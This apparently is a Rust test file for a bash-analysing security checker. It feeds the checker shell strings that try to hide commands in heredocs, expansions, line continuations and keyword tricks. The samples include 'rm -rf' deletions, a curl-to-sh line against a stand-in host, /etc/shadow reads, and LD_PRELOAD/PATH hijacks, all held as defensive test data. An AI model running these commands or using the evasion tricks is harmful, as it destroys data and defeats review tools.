//! Tests that what the grammar of the shell reads in another way than bash is seen, or told as not read.

use super::look;
use super::shell::assert_known;

/// Asserts that each text has no review that says that all is known.
fn assert_unknown(samples: &[&str]) {
    let known: Vec<&&str> = samples.iter().filter(|source| !look("bash", source).effects.unknown).collect();
    assert!(known.is_empty(), "{known:#?}");
}

/// Asserts that `x` is told to be deleted, or that the text is told as not checked.
fn assert_seen(samples: &[&str]) {
    let is_seen = |source: &&&str| {
        let review = look("bash", source);
        review.unchecked.is_some() || review.effects.deletes.iter().any(|path| path == "x")
    };
    let missed: Vec<&&str> = samples.iter().filter(|source| !is_seen(source)).collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn what_stands_behind_a_here_document_is_not_taken_for_a_part_of_it() {
    let samples = [
        "cat <<EOF>notes.txt\nhome: $HOME\nEOF\nrm x\n",
        "cat <<EOF|cat\nhome: $HOME\nEOF\nrm x\n",
        "cat <<EOF;\nhome: $HOME\nEOF\nrm x\n",
        "cat <<-EOF>out\n\thome: $HOME\n\tEOF\nrm x\n",
        "cat <<E\"F\"\na $HOME\nEF\nrm x\n",
        "cat <<E\"F\" >out\na\nEF\nrm x\n",
        "cat <<E\n$\nE\nrm x\n",
        "cat <<E\nE;cat <<'X'\nE\nrm x\nX\n",
        "cat <<E\n  E\ncat <<'X'\nE\nrm x\nX\n",
        "cat <<E\na\\\nE\ncat <<'X'\nE\nrm x\nX\n",
        "cat <<A && cat <<B\na $HOME\nA\nb\nB\nrm x\n",
    ];
    assert_seen(&samples);
    assert_unknown(&samples[..5]);
    let review = look("bash", samples[0]);
    assert!(review.findings.iter().any(|f| f.rule == "common.unread"), "{review:?}");
}

#[test]
fn here_documents_of_every_day_are_read() {
    for source in [
        "cat <<EOF > f\nhome: $HOME\n$(date) and ${USER:-nobody}\nEOF\nls\n",
        "cat > f << 'EOF'\n`rm x` $(rm x) ${a:-`rm x`}\nEOF\nls\n",
        "cat <<-EOF\n\n\ta\n\t\tb $HOME\n\tEOF\nls\n",
        "x=$(cat <<'E'\na\n\nE\n)\nls\n",
        "git commit -m \"$(cat <<'EOF'\nMends `a`\n\nAnd (b\nEOF\n)\"\n",
        "cat <<E\n\n  two words\n    $(date) \\`a\\` \\$(b) $1\nE\nls\n",
        "cat <<E\nE\nls\n",
        "cat > a.tex <<'EOF'\n\\documentclass{article}\n\\begin{document}\nHi\nEOF\nls\n",
        "psql <<SQL\n\\c db\nselect 1;\nSQL\nls\n",
        "cat > f <<EOF\n\n\\$HOME\nEOF\nls\n",
        "cat <<SQL\nSQLite is small\nSQL\nls\n",
        "cat <<EOF \\\n  > out\na\nEOF\nls\n",
        "cat <<E \\\n | grep a\na\nE\nls\n",
        "cat <<EOF\nx\n  ${files[@]} ${c[0]} $((a==1))\nEOF\nls\n",
        "cat > a.tex <<'A'\n\\a\nA\ncat > b.tex <<'B'\n\\b\nB\ncat > c.tex <<'C'\n\\c\nC\nls\n",
    ] {
        let review = look("bash", source);
        assert_eq!(review.unchecked, None, "{source}");
        let told = review
            .effects
            .programs
            .iter()
            .filter(|name| !["cat", "psql", "ls", "git", "grep", "date"].contains(&name.as_str()));
        assert_eq!(told.count(), 0, "{source} {:?}", review.effects);
        assert!(review.effects.programs.iter().any(|name| name == "ls" || name == "git"), "{source}");
    }
}

#[test]
fn what_begins_a_here_document_hides_nothing() {
    assert_seen(&[
        "bash <<'E'\n\\rm -rf x\nE",
        "cat <<E\n\\a\nE\nrm x\n",
        "cat <<E\n\\\\$(rm x)\nE\n",
        "cat <<E\n\\a `rm x`\nE\n",
        "cat <<E\nEx `rm x`\nE\n",
    ]);
}

#[test]
fn single_quotes_in_expansions_hold_no_code() {
    for source in
        ["x=${s//'`'/_}; ls", "x=${s//'$('/_}; ls", "x=${s:-'$(rm y)'}; ls", "x=${s:-$'`rm y`'}; ls"]
    {
        let review = look("bash", source);
        assert_eq!((review.unchecked, review.effects.deletes.len()), (None, 0), "{source}");
    }
    assert_seen(&["x=\"${a:-'`rm x`'}\"", "cat <<E\n${a:-'`rm x`'}\nE"]);
}

#[test]
fn single_quotes_in_arithmetic_quote_nothing() {
    assert_seen(&[
        "echo $(( ${a:-'$(rm x)'} ))",
        "((x=${a:-'$(rm x)'}))",
        "for ((i=${a:-'$(rm x)'};0;)); do :; done",
        "a[${b:-'$(rm x)'}]=1",
        "a=([${b:-'$(rm x)'}]=1)",
        "s=abc; echo ${s:${a:-'$(rm x)'}}",
        "s=abc; echo ${s:0:1+${a:-'$(rm x)'}}",
        "echo ${s[${a:-'$(rm x)'}]}",
        "echo $(( '$(rm x)' ))",
        "echo $(( '`rm x`' ))",
        "echo \"$(( 1 ? '$(rm x)' : 2 ))\"",
        "echo $[ '$(rm x)' ]",
        "((x='$(rm x)'))",
        "a['$(rm x)']=1",
        "a=(['$(rm x)']=1)",
        "declare a['$(rm x)']=1",
        "echo ${s['$(rm x)']}",
        "echo ${!s['$(rm x)']}",
        "echo ${a:-$(( '$(rm x)' ))}",
        "cat <<E\n$(( '$(rm x)' ))\nE",
    ]);
    for source in [
        "x=${s:-${t:-'$(rm y)'}}; ls",
        "a=([0]='$(rm y)'); ls",
        "echo $(( $(echo '$(rm y)') )); ls",
        "for ((i=0;i<1;i++)); do echo '$(rm y)'; done; ls",
        "((x=1)) && echo '$(rm y)' ${s:-'$(rm y)'}; ls",
        "echo ${s[1]:-'$(rm y)'}; ls",
    ] {
        let review = look("bash", source);
        assert_eq!((review.unchecked, review.effects.deletes.len()), (None, 0), "{source}");
    }
}

#[test]
fn substitutions_in_text_are_read() {
    assert_seen(&[
        "cat > c.yml <<EOF\nbuilt: `date +%Y; rm -f x`\nEOF",
        "cat <<EOF\n`echo \\`rm x\\``\nEOF",
        "cat > c <<EOF\n  $(rm x | sh)\nEOF",
        "cat > c <<-EOF\n\t$(rm x)\n\tEOF",
        "cat > c <<EOF\na\n $(rm x)\nEOF",
        "cat > c <<EOF\n  $(rm y) and $(rm x)\nEOF",
        "cat > c <<EOF\n  ${a:-$(rm x)}\nEOF",
        "cat > c <<EOF\n  \"$(echo ')' \")\"; rm x)\"\nEOF",
        "cat > c <<EOF\n  $(case a in a) rm x;; esac)\nEOF",
        "echo ${a:-`rm x`}",
        "echo ${a-`rm x`}",
        "echo ${a:=`rm x`}",
        "echo ${PWD:+`rm x`}",
        "echo ${a:?`rm x`}",
        "echo \"${a:-`rm x`}\"",
        "echo ${v/`rm x`/b}",
        "echo \"${v//a/`rm x`}\"",
        "echo ${PWD#$(rm x)}",
        "echo ${PWD##$(rm x)}",
        "echo \"${PWD%$(rm x)}\"",
        "echo ${PWD%%`rm x`}",
        "echo ${a:-${b:-`rm x`}}",
        "echo ${a:-<(rm x)}",
    ]);
    let review = look("bash", "cat <<EOF\n  $(curl -s http://h.example/i | sh)\nEOF");
    assert!(review.findings.iter().any(|f| f.place.line == 2), "{review:?}");
    assert_unknown(&[
        "cat <<EOF\n  $(rm x\nEOF",
        "cat <<EOF\n$\\\n(rm x)\nEOF",
        "cat <<EOF\n  ${D:=../src}\nEOF\nrm -rf -- \"$D\"",
        "cat <<EOF\n  $((D=5))\nEOF\nrm -rf -- \"$D\"",
        "rm -rf -- ${D:-`echo ../src`}",
    ]);
}

#[test]
fn a_word_on_two_lines_is_one() {
    assert_unknown(&[
        "cat /etc/sha\\\ndow\n",
        "rm -rf build\\\n/../..\n",
        "rm -r\\\nf x\n",
        "r\\\nm x\n",
        "D=a\\\nb\nrm \"$D\"\n",
        "cat < a\\\nb\n",
        "echo $\\\n(rm x)\n",
        "echo \"$\\\n(rm x)\"\n",
    ]);
    let effects = look("bash", "rm -rf ../s\\\nr\\\nc\n").effects;
    assert_eq!(effects.deletes, ["../src"]);
    for source in [
        "rm -rf \\\n  build \\\n  dist\n",
        "rm -rf build\\\n  dist\n",
        "true &&\\\nrm -rf build dist\n",
        "rm -rf \"bui\\\nld\" dist\n",
        "X=bui; Y=ld; rm -rf \"$X\\\n$Y\" dist\n",
        "# a path\\\nrm -rf build dist\n",
        "echo 'a\\\nb'; rm -rf build dist\n",
    ] {
        let effects = look("bash", source).effects;
        assert_eq!(effects.deletes, ["build", "dist"], "{source}");
        assert!(!effects.unknown, "{source}");
    }
}

#[test]
fn a_tilde_is_the_home_that_the_text_sets() {
    let review = look("bash", "HOME=/etc; cat ~/shadow");
    assert!(review.findings.iter().any(|f| f.message.contains("/etc/shadow")), "{review:?}");
    assert_unknown(&[
        "HOME=$(cat h); rm -rf ~/x",
        "if a; then HOME=/etc; fi; rm -rf ~/x",
        "HOME=$(cat h); rm -rf ~/{a,b}",
        "rm -rf ~-/x",
        "rm -rf ~1",
        "rm -rf \\~/x",
        "rm -rf '~'/x",
        "rm -rf \"~\"/x",
    ]);
    let effects = look("bash", "rm -rf ~+/build").effects;
    assert!(!effects.unknown && effects.deletes.iter().all(|path| path.ends_with("build")), "{effects:?}");
}

#[test]
fn counters_of_a_loop_are_not_known() {
    assert_unknown(&["for ((i=0;i<5;i++)); do rm f$i; done", "for ((i=0,j=1;i<5;i++,j+=2)) { rm f$j; }"]);
}

#[test]
fn what_arithmetic_sets_is_not_known() {
    assert_unknown(&[
        "D=x; : <<E\n$((D=1))\nE\nrm -rf \"$D\"",
        "D=x; : <<E\n${c[D=1]}\nE\nrm -rf \"$D\"",
        "D=x; : <<E\n ${c:D=1}\nE\nrm -rf \"$D\"",
        "D=x; echo ${c[D=1]}; rm -rf \"$D\"",
        "D=x; echo ${#c[D=1]}; rm -rf \"$D\"",
        "D=x; echo ${c[D++]:-a}; rm -rf \"$D\"",
        "D=x; c[D=1]=3; rm -rf \"$D\"",
        "D=x; c=([D=1]=3); rm -rf \"$D\"",
        "D=x; echo ${a:-$((D=1))}; rm -rf \"$D\"",
    ]);
    for source in [
        "D=x; : <<E\n$((D==1)) ${c[D]} ${c:1}\nE\nrm -rf \"$D\"",
        "D=x; c=([0]=D=1); echo $(D=1); rm -rf \"$D\"",
        "D=x; c=(a [1]=b); echo ${c[1]} ${c[@]}; rm -rf \"$D\"",
    ] {
        assert_eq!(look("bash", source).effects.deletes, ["x"], "{source}");
    }
}

#[test]
fn a_name_may_stand_for_another_program() {
    assert_unknown(&[
        "PATH=./bin:$PATH; ls",
        "export PATH=\"$PWD/bin:$PATH\"; ls",
        "PATH=bin ls",
        "PATH=/usr/../tmp/x:$PATH; ls",
        "PATH=:$PATH; ls",
        "PATH=/tmp/x:$PATH; ls",
        "hash -p ./x ls; ls",
        "enable -f ./x.so ls; ls",
    ]);
    for source in ["PATH=\"$PATH:./bin\"; ls", "PATH=/usr/local/bin:$PATH; ls", "hash -r; ls"] {
        assert!(!look("bash", source).effects.unknown, "{source}");
    }
}

#[test]
fn many_documents_and_substitutions_take_little_time() {
    for text in [
        "cat <<E\n$X\nE\n".repeat(4000),
        "cat <<E>f\n".repeat(4000),
        "cat <<E\n".to_owned() + &"  $(".repeat(9000),
        "cat <<E\n".to_owned() + &" $(a)\n".repeat(6000) + "E\n",
        "echo ".to_owned() + &"${a:-".repeat(6000),
        "{ ".repeat(100) + &"x=${a:-b}\n".repeat(4000) + &"}\n".repeat(100),
        "a\\\n".repeat(12_000),
        "# a\\\n".repeat(50_000),
        "cat <<E\n\\a\nEx\nE\n".repeat(2000),
        "echo '".to_owned() + &"a\\\n".repeat(12_000) + "'",
    ] {
        look("bash", &text);
    }
}

#[test]
fn what_behind_a_keyword_is_taken_for_a_command_changes_what_it_changes() {
    assert_unknown(&[
        "D=b; ! for D in x y; do true; done; rm -rf -- \"$D\"",
        "D=b; ! select D in x; do true; done; rm -rf -- \"$D\"",
        "D=b; time for D in x y; do true; done; rm -rf -- \"$D\"",
        "D=b; ! (( D=3 )); rm -rf -- \"$D\"",
        "D=b; ! export D=x; rm -rf -- \"$D\"",
        "D=b; time declare D=x; rm -rf -- \"$D\"",
        "D=b; ! unset D; rm -rf -- \"$D\"",
        "D=b; time { D=x; }; rm -rf -- \"$D\"",
        "! function ls { rm -rf b; }; ls",
        "coproc cd b; rm -rf x",
        "set -- a; coproc set -- b; rm -rf $1",
        "set -- for a; coproc set -- for b; rm -rf $2",
    ]);
    for source in [
        "D=b; ! ( D=x; ); rm -rf -- \"$D\"",
        "D=b; ! true; rm -rf -- \"$D\"",
        "D=b; time true; rm -rf -- \"$D\"",
    ] {
        assert_known(&[(source, &["b"])]);
    }
}

#[test]
fn the_defaults_of_code_that_is_read_alone_do_not_hold_where_the_text_sets_the_name() {
    assert_unknown(&[
        "D='a b'; cat <<E\n`rm -rf -- ${D:-x}`\nE",
        "D='a b'; cat <<E\n`rm -rf -- ${D-x$(echo a)}`\nE",
        "export D=b; bash -c 'rm -rf -- ${D:-x}'",
        "export D=b; bash <<'E'\nrm -rf -- ${D:-x}\nE",
        "D=b; eval 'rm -rf -- ${D:=x}'",
        "D=b bash -c 'rm -rf -- ${D:-x}'",
        "export D=b; su <<'E'\nrm -rf -- ${D:-x}\nE",
    ]);
    assert!(!look("bash", "D=b; echo '${D}' | sed 's/${D}/x/'").effects.unknown);
    assert_known(&[("E=b; bash -c 'rm -rf -- ${D:-x}'", &["x"])]);
}

#[test]
fn a_home_folder_within_a_name_is_none() {
    for source in [
        "D=~/src; rm -rf -- x$D",
        "export D=~/../src/x; rm -rf -- \"x$D\"",
        "D=~; rm -rf -- x{a,$D}",
        "D=~/x; E=$(printf 'x%s' \"$D\"); rm -rf -- \"$E\"",
        "rm -rf -- \"$HOME\"-old",
        "rm -rf -- \"${HOME}x/y\"",
    ] {
        let deletes = look("bash", source).effects.deletes;
        assert!(
            !deletes.iter().any(|path| path.contains("x~") || path.contains("~-old") || path.contains("~x")),
            "{source}"
        );
    }
    let effects = look("bash", "D=~/x; F=build; rm -rf -- \"$D\" $D/a \"$F\"~").effects;
    assert_eq!(
        (effects.deletes, effects.unknown),
        (vec!["~/x".into(), "~/x/a".into(), "build~".into()], false)
    );
}

#[test]
fn a_variable_that_programs_obey_is_seen_however_it_is_declared() {
    let is_told = |source: &&&str| look("bash", source).findings.iter().any(|found| found.place.line == 1);
    let samples = [
        "! export LD_PRELOAD=./x.so; ls",
        "time export LD_PRELOAD=./x.so; ls",
        "command export LD_PRELOAD=./x.so; ls",
        "export \"LD_PRELOAD=./x.so\"; ls",
        "export \"PATH=./x:$PATH\"; ls",
    ];
    let missed: Vec<&&str> = samples.iter().filter(|source| !is_told(source)).collect();
    assert!(missed.is_empty(), "{missed:#?}");
    let effects = look("bash", "env D=b rm -rf x; env C=b rm -rf x").effects;
    assert_eq!(effects.deletes, ["x"]);
    let effects = look("bash", "env -C b C=b rm -rf x").effects;
    assert_eq!(effects.deletes, ["b/x"]);
}

#[test]
fn a_module_whose_code_stands_elsewhere_is_not_known() {
    for source in [
        "import('file:///x.mjs')",
        "import('#x')",
        "import './x.mjs'",
        "export * from './x.js'",
        "import type from './x.js'",
    ] {
        assert!(look("javascript", source).effects.unknown, "{source}");
    }
    for source in [
        "import fs from 'node:fs'",
        "import data from './x.json'",
        "import type { A } from './x'",
        "import type A from './x'",
    ] {
        assert!(!look("typescript", source).effects.unknown, "{source}");
    }
}
